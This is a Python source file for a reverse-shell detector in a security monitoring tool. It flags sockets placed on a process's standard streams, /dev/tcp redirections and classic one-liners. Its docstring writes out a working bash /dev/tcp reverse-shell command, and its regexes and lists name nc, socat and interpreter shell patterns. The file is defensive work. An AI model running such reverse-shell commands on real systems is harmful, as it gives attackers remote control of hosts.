"""`reverse_shell`: a shell whose standard input/output is a network socket.

- `reverse_shell.socket_stdio`: a process duplicates a network socket (IPv4/IPv6) onto two
  of its standard fds (`dup2(s, 0); dup2(s, 1)`), or a shell starts with its stdin and its
  stdout or stderr already on a socket (the eBPF sensor reports what fds 0-2 really are at
  every exec, `Process.stdio`; recordings may carry `fd.types` instead).
- `reverse_shell.dev_tcp`: a shell command redirecting its standard streams to
  `/dev/tcp/host/port` (`bash -i >& /dev/tcp/1.2.3.4/4444 0>&1`).
- `reverse_shell.one_liner`: the classic one-liners, judged by the binary that runs them:
  `nc -e /bin/sh`, `ncat --exec`, `socat ... exec:...`, python/perl/ruby/php code that
  connects a socket and spawns a shell or pty.

One attack is one detection: once a process is reported, its socket dup2s and the shell
it becomes are folded into that detection.

Static allowlist: super-servers that hand sockets to their children as stdio by design
(`inetd`, `xinetd`, `systemd` socket activation, `tcpserver`, `sshd` in inetd mode), and a
bare `/dev/tcp` port probe (`echo > /dev/tcp/db/5432` in a healthcheck), which is returned
suppressed because no standard stream is redirected.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import ClassVar

from vigil.detections import Detection
from vigil.detectors.builtin import BuiltinDetector, DetectorParams
from vigil.detectors.event_args import int_arg
from vigil.detectors.detection_builder import (build_detection, describe_process,
                                               static_suppression)
from vigil.detectors.expiring_map import ExpiringMap
from vigil.detectors.params import minimum
from vigil.detectors.process_identity import (AgentIdentity, INTERPRETERS, SHELLS, binary_name,
                                              command_of, is_shell, matched_binary)
from vigil.detectors.shell_command import shell_command_of
from vigil.events.model import Event
from vigil.priority import Priority

NAME = "reverse_shell"
TAGS = ("attack.execution", "T1059.004", "attack.command_and_control", "T1071")
_EXEC = frozenset({"execve", "execveat"})
_DUP = frozenset({"dup", "dup2", "dup3"})
_NET = frozenset({"ipv4", "ipv6"})

#: programs that give a connected socket to a child as its stdio by design
SOCKET_SUPERSERVERS: frozenset[str] = frozenset({
    "inetd", "xinetd", "systemd", "tcpserver", "tcpsvd", "sshd", "sshd-session", "stunnel",
    "stunnel4", "s6-tcpserver", "rinetd",
})

_DEV_NET = re.compile(r"/dev/(tcp|udp)/([^/\s]+)/(\d+)")
#: a standard stream redirected (to the /dev/tcp path, or duplicated from it)
_STDIO_REDIRECT = re.compile(r"(^|\s)-i(\s|$)|[0-2]?>&\s*[0-9]|[0-2]?<&\s*[0-9]|>&\s*/dev/|"
                             r"&>\s*/dev/|<>\s*/dev/(tcp|udp)|0<\s*/dev/(tcp|udp)|"
                             r"exec\s+\d*<>")
_NC = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "busybox"})
#: binaries whose arguments are read as the command text
_INLINE_CODE_BINARIES = INTERPRETERS | _NC
_SCRIPT_CODE = {
    "python": re.compile(r"socket.*(pty\.spawn|subprocess|os\.dup2|/bin/(ba)?sh)", re.S),
    "perl": re.compile(r"socket.*(exec|open\(STD|/bin/(ba)?sh)", re.S | re.I),
    "ruby": re.compile(r"(TCPSocket|socket).*(exec|spawn|/bin/(ba)?sh)", re.S),
    "php": re.compile(r"fsockopen.*(exec|system|passthru|shell_exec|proc_open|/bin/(ba)?sh)",
                      re.S),
    "node": re.compile(r"(net\.Socket|connect\().*(child_process|/bin/(ba)?sh)", re.S),
}


@dataclass(frozen=True)
class ReverseShellParams(DetectorParams):
    """`[detectors.reverse_shell]`."""

    DETECTOR: ClassVar[str] = NAME
    #: how long a socket duplicated onto stdin/stdout waits for the matching second fd
    window_seconds: float = field(default=30.0, metadata=minimum(0))


def _interpreter_family(name: str) -> str | None:
    for family in _SCRIPT_CODE:
        if name.startswith(family):
            return family
    return None


def _inline_code(args: list[str]) -> str | None:
    for i, a in enumerate(args):
        if a in ("-c", "-e", "-r", "-E", "--eval") and i + 1 < len(args):
            return args[i + 1]
    return None


def _one_liner(binary: str, args: list[str]) -> str | None:
    """What makes this command a reverse-shell one-liner, or None."""
    joined = " ".join(args)
    if binary in _NC:
        for i, a in enumerate(args):
            if a in ("-e", "-c", "--exec", "--sh-exec", "--lua-exec") or (
                    a.startswith("-") and not a.startswith("--") and "e" in a[1:]
                    and i + 1 < len(args) and args[i + 1].startswith("/")):
                return f"{binary} executing a program for a connection ({joined})"
        return None
    if binary == "socat":
        low = joined.lower()
        if re.search(r"\b(exec|system):", low) and re.search(r"\b(tcp|tcp4|tcp6|ssl|openssl|udp)", low):
            return f"socat joining a socket to a program ({joined})"
        return None
    family = _interpreter_family(binary)
    code = _inline_code(args) if family else None
    if family and code and _SCRIPT_CODE[family].search(code):
        return f"{binary} code connecting a socket to a shell"
    return None


def _stdio_sockets(event: Event) -> dict[int, str]:
    """Standard fds of the process that are network sockets: fd -> remote `ip:port` (or
    the fd type when only the types are known, from a recording's `fd.types`)."""
    stdio = event.proc.stdio
    if stdio:
        return {f.num: f"{f.rip or '?'}:{f.rport if f.rport is not None else '?'}"
                for f in stdio if f.type in _NET and f.num is not None and 0 <= f.num <= 2}
    types = event.fd.types if event.fd is not None and event.fd.types else {}
    return {n: types[n] for n in (0, 1, 2) if types.get(n) in _NET}


class ReverseShellDetector(BuiltinDetector):
    """Shells wired to network sockets, /dev/tcp redirections and reverse-shell one-liners."""

    name = NAME
    Params = ReverseShellParams
    event_types = frozenset(_EXEC | _DUP)

    params: ReverseShellParams

    def __init__(self, params: ReverseShellParams | None = None,
                 own: AgentIdentity | None = None) -> None:
        super().__init__(params, own)
        window_ns = int(self.params.window_seconds * 1e9)
        #: pid -> {std fd: socket description} of sockets duplicated onto stdio
        self._stdio: ExpiringMap[int, dict[int, str]] = ExpiringMap(window_ns)
        self._reported: ExpiringMap[int, bool] = ExpiringMap(window_ns)

    def on_event(self, event: Event) -> list[Detection]:
        """Report sockets on a shell's stdio and reverse-shell command lines."""
        if event.res is not None and event.res < 0:
            return []
        if event.type in _DUP:
            return self._on_dup(event)
        if event.type in _EXEC:
            return self._on_exec(event)
        return []

    def _superserver(self, event: Event):
        proc = event.proc
        hit = matched_binary(proc, SOCKET_SUPERSERVERS) or (
            matched_binary(proc.parent, SOCKET_SUPERSERVERS) if proc.parent else None)
        if hit is None:
            return None
        return static_suppression(NAME, "superservers", hit,
                                  "super-servers give a connection to a child as its stdio")

    def _mark(self, event: Event) -> None:
        """The process is reported: its own later dup2s are the same attack."""
        if event.proc.pid is not None:
            self._reported.put(event.proc.pid, event.ts, True)

    def _report_socket_stdio(self, event: Event, sockets: dict[int, str]) -> list[Detection]:
        pid = event.proc.pid
        if pid is not None and self._reported.seen_recently(pid, event.ts):
            return []
        remote = next(iter(sockets.values()))
        output = (f"Standard streams {sorted(sockets)} of {describe_process(event)} are a "
                  f"network socket to {remote}: {event.proc.cmdline() or '?'}")
        return [build_detection(NAME, "socket_stdio", Priority.CRITICAL, output, TAGS, event,
                                ip=remote.rsplit(":", 1)[0] or None,
                                data={"fds": sorted(sockets), "remote": remote},
                                suppressed=self._superserver(event))]

    def _on_dup(self, event: Event) -> list[Detection]:
        fd = event.fd
        # the result is the new fd for dup, dup2 and dup3 alike (close(0); dup(s) -> 0)
        newfd = event.res if event.res is not None else int_arg(event, "newfd")
        if fd is None or fd.type not in _NET or newfd not in (0, 1, 2) or event.proc.pid is None:
            return []
        pid = event.proc.pid
        sockets = dict(self._stdio.get(pid, event.ts) or {})
        sockets[newfd] = f"{fd.rip or '?'}:{fd.rport if fd.rport is not None else '?'}"
        self._stdio.put(pid, event.ts, sockets)
        if 0 in sockets and (1 in sockets or 2 in sockets):
            return self._report_socket_stdio(event, sockets)
        return []

    def _on_exec(self, event: Event) -> list[Detection]:
        proc = event.proc
        if self.own.owns(proc):
            return []
        out: list[Detection] = []
        sockets = _stdio_sockets(event)
        if is_shell(proc) and 0 in sockets and (1 in sockets or 2 in sockets):
            out += self._report_socket_stdio(event, sockets)
        command = command_of(proc)
        if command is None:
            return out
        binary, _path, args = command
        text = shell_command_of(proc) if binary in SHELLS or is_shell(proc) else None
        if text is None and binary in _INLINE_CODE_BINARIES:
            text = " ".join(args)
        if text and (m := _DEV_NET.search(text)):
            redirected = bool(_STDIO_REDIRECT.search(text))
            suppression = None if redirected else static_suppression(
                NAME, "port_probe", f"/dev/{m.group(1)}",
                "a /dev/tcp port probe (healthcheck) without redirected standard streams")
            output = (f"Shell wired to {m.group(1).upper()} {m.group(2)}:{m.group(3)} through "
                      f"/dev/{m.group(1)}: `{text}` by {describe_process(event)}")
            if redirected:
                self._mark(event)
            out.append(build_detection(
                NAME, "dev_tcp", Priority.CRITICAL, output, TAGS, event, ip=m.group(2),
                data={"command": text, "port": int(m.group(3))}, suppressed=suppression))
            return out
        what = _one_liner(binary, args)
        if what:
            self._mark(event)
            out.append(build_detection(
                NAME, "one_liner", Priority.CRITICAL,
                f"Reverse-shell one-liner: {what}, by {describe_process(event)}", TAGS, event,
                data={"command": proc.cmdline(), "binary": binary_name(proc)}))
        return out
